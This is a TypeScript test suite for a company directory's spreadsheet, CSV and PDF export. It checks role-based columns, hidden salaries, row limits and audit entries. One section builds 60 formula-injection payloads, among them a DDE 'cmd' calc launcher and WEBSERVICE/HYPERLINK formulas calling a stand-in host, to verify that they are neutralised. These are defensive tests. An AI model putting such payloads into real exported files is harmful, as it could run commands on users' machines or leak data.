import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { exportWorkers, listWorkers } from "@atrio/contract/people/directory";

import type { Company, SignedIn } from "../../../../../test/factory.ts";
import { startTestApp } from "../../../../../test/harness.ts";
import type { Answer, TestApp } from "../../../../../test/harness.ts";
import { pdfInfo, pdfText } from "../../../../../test/printed.ts";
import { readCsv } from "../../../../lib/files/csv.ts";
import { readWorkbook } from "../../../../lib/files/xlsx.ts";

/** Texts that spreadsheets run: 6 commands behind 10 beginnings. */
const formulas = ["=", "+", "-", "@", "=+", "=-", "=@", "＝", "＋", "＠"].flatMap((start) =>
  [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://mala.test";"pulsa")',
    "SUM(A1:A9)*cmd",
    'WEBSERVICE("http://mala.test/"&A1)',
    '1+1";=2+2',
  ].map((rest) => start + rest),
);

let t: TestApp;
let home: Company;
let person: SignedIn;
let supervisor: SignedIn;
let admin: SignedIn;

beforeAll(async () => {
  t = await startTestApp();
  home = await t.factory.company({ nombre: "Hotel Sol" });
  person = await t.factory.signedIn({
    company: home,
    nombre: "Beatriz",
    apellido1: "Núñez",
    trabajador: { telefono: "+34 600 100 200", sexo: "M", fecha_nacimiento: "1990-03-14" },
  });
  supervisor = await t.factory.signedIn({
    company: home,
    nombre: "Ana",
    trabajador: { permiso_supervisor: true },
  });
  admin = await t.factory.signedIn({ company: home, trabajador: { administrador: true } });
  await t.factory.supervise(supervisor, person);
  await t.sql("insert into trabajador_salario values ($1, $2, 24000.5, '[2024-01-01,)')", [
    home.empresa_id,
    person.trabajador_id,
  ]);
});

afterAll(() => t.stop());

type Format = "xlsx" | "pdf" | "csv";

/** The file, whose bytes a JSON answer would not keep. */
async function download(
  who: SignedIn,
  formato: Format,
  asked: object = {},
  language = "es",
): Promise<Buffer> {
  const query = new URLSearchParams({ formato, paramsFront: JSON.stringify(asked) }).toString();
  const response = await t.app.inject({
    method: "GET",
    url: `/api/v1/trabajador/${who.trabajador_id}/showall-workers/export?${query}`,
    headers: { authorization: `Bearer ${who.token}`, "accept-language": language },
  });
  expect(response.statusCode).toBe(200);
  expect(response.headers["content-disposition"]).toContain(`2026-11-18.${formato}`);
  return response.rawPayload;
}

async function sheetOf(who: SignedIn, asked: object = {}, language = "es"): Promise<string[][]> {
  const [sheet] = await readWorkbook(await download(who, "xlsx", asked, language));
  return sheet?.rows ?? [];
}

async function csvOf(who: SignedIn, asked: object = {}): Promise<string[][]> {
  return readCsv(await download(who, "csv", asked)).map(({ cells }) => cells);
}

const everybodys = [
  "Nombre",
  "Relación",
  "Puesto",
  "Departamento",
  "Centro de trabajo",
  "Correo",
  "Teléfono",
  "Empresa",
];

describe("the columns of a file are those of the screen", () => {
  test("an exported file has the screen's columns for each role, in each format", async () => {
    for (const who of [person, supervisor, admin]) {
      const { body } = await t.call(listWorkers, {
        token: who.token,
        params: { id: who.trabajador_id },
      });
      const [heading = []] = await sheetOf(who);
      expect(heading).toHaveLength(body.columnas.length);
      expect((await csvOf(who))[0]).toEqual(heading);
    }
    expect((await sheetOf(person))[0]).toEqual(everybodys);
    expect((await sheetOf(supervisor))[0]).not.toContain("Salario bruto anual");
    expect((await sheetOf(admin))[0]?.at(-1)).toBe("Salario bruto anual");
  });

  test("a file has the chosen columns, and never a hidden one", async () => {
    const asked = { returnValues: ["telefono", "salario_bruto_anual", "sexo", "otra"] };
    expect((await sheetOf(supervisor, asked))[0]).toEqual(["Nombre", "Teléfono"]);
    const text = pdfText(await download(supervisor, "pdf"));
    expect(text).toContain("Antigüedad");
    expect(text).not.toMatch(/Salario|24\.?000/);
  });

  test("an exported file has values as people read them", async () => {
    const [heading = [], ...rows] = await sheetOf(admin, { busqueda: "beatriz" });
    const row = Object.fromEntries(heading.map((name, at) => [name, rows[0]?.[at]]));
    expect(rows).toHaveLength(1);
    expect(row).toMatchObject({
      Nombre: "Beatriz Núñez",
      Supervisores: expect.stringContaining("Ana"),
      Antigüedad: "2 años y 10 meses",
      Relación: "",
      Cumpleaños: "14 mar",
      Sexo: "Mujer",
      "Salario bruto anual": "24000.5",
    });
    const [, csv = []] = await csvOf(admin, { busqueda: "beatriz" });
    expect(csv.at(-1)).toBe("24000,5");
    expect(pdfText(await download(admin, "pdf"))).toMatch(/24\.000,50\s€/);
    expect((await sheetOf(admin, {}, "fr"))[0]).toContain("Salaire brut annuel");
  });
});

describe("the rows of a file", () => {
  test("a file has all filtered rows, of every page", async () => {
    expect(await sheetOf(person, { skip: 2, take: 10 })).toHaveLength(4);
    expect(await sheetOf(person, { relacion: "ascendente" })).toHaveLength(2);
  });

  test("an export of too many people is refused", async () => {
    await t.sql(
      `with a as (insert into account (email) select 'm' || n || '@prueba.test' from generate_series(1, 6001) n
         returning account_user_id)
       insert into trabajador (empresa_id, account_user_id, codigo, nombre, apellido1, fecha_alta)
       select $1, account_user_id, 'M' || account_user_id, 'Muchos', 'Más', '2024-01-01' from a`,
      [home.empresa_id],
    );
    const ask = async (formato: Format): Promise<Answer> =>
      t.call(exportWorkers, {
        token: person.token,
        params: { id: person.trabajador_id },
        query: { formato },
      });
    const { status, body } = await ask("pdf");
    expect([status, body.code]).toEqual([422, "directory.too_large"]);
    expect((await ask("csv")).status).toBe(200);
    await t.sql("update trabajador set fecha_baja = '2026-01-01' where nombre = 'Muchos'");
  });
});

describe("no cell becomes a formula", () => {
  beforeAll(async () => {
    for (const [index, formula] of formulas.entries()) {
      const text = index % 3;
      await t.factory.worker({
        company: home,
        nombre: text === 0 ? formula : `Formula${index}`,
        trabajador: {
          puesto: text === 1 ? formula : null,
          nombre_departamento_trabajador: text === 2 ? formula : null,
          telefono: formula,
        },
      });
    }
  });

  test("the 60 hostile cells of a workbook are texts, as they were typed", async () => {
    const bytes = await download(admin, "xlsx");
    const cells = (await readWorkbook(bytes)).flatMap(({ rows }) => rows.flat());
    for (const formula of formulas) expect(cells).toContain(formula);
    const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.includes("sheet"));
    const xml = parts.map(([, part]) => strFromU8(part)).join("");
    expect(xml).not.toMatch(/<f[ >]|<hyperlink/i);
  });

  test("the 60 hostile cells of a CSV begin with an apostrophe", async () => {
    const cells = (await csvOf(admin)).flat();
    for (const formula of formulas) expect(cells).toContain(`'${formula}`);
    const risky = cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/u.test(cell));
    expect(risky).toEqual([]);
  });
});

test("the printed list is many landscape pages with company, date and who asked", async () => {
  const bytes = await download(supervisor, "pdf", {}, "en");
  const info = pdfInfo(bytes);
  expect(Number(info["Pages"])).toBeGreaterThan(1);
  expect(info["Page size"]).toContain("841.89 x 595.276");
  const text = pdfText(bytes);
  expect(text).toContain("Company directory");
  expect(text).toContain("Hotel Sol");
  expect(text).toContain("Exported by Ana");
  expect(text).toContain("18/11/2026");
});

test("addresses can be copied from the printed list as they were typed", async () => {
  const firm = await t.factory.company({ nombre: "Taller Luna" });
  const boss = await t.factory.signedIn({ company: firm, trabajador: { administrador: true } });
  const emails = [
    "ana.paz@luna.test",
    "maria-jose.fernandez-villaverde@recursos-humanos.taller-luna.test",
    "a-department-with-a-name-that-fills-the-column-of-a-page@mail.human-resources.taller-luna.test",
  ];
  for (const [index, email] of emails.entries()) {
    await t.factory.worker({ company: firm, nombre: `P${index}`, email });
  }
  const columns = ["email", "puesto"];
  for (const asked of [{}, { returnValues: columns }]) {
    const bytes = await download(boss, "pdf", asked);
    for (const options of [[], ["-raw"]]) {
      const copied = pdfText(bytes, options);
      expect(copied).not.toMatch(/[\u200B-\u200F\u2060\uFEFF\u00AD]/);
      const joined = copied.replaceAll(/\s+/g, "");
      for (const email of emails) expect(joined, options.join()).toContain(email);
      expect(copied).toContain("ana.paz@luna.test");
    }
  }
  expect(pdfText(await download(boss, "pdf", { returnValues: columns }))).toContain(emails[1]);
});

test("each exported file leaves an audit entry", async () => {
  await t.sql("delete from auditoria");
  await download(supervisor, "csv", { returnValues: ["email"] });
  const rows = await t.sql("select actor_id, detalle from auditoria");
  expect(rows).toEqual([
    {
      actor_id: supervisor.trabajador_id,
      detalle: { formato: "csv", personas: 63, columnas: "nombre_completo, email" },
    },
  ]);
});
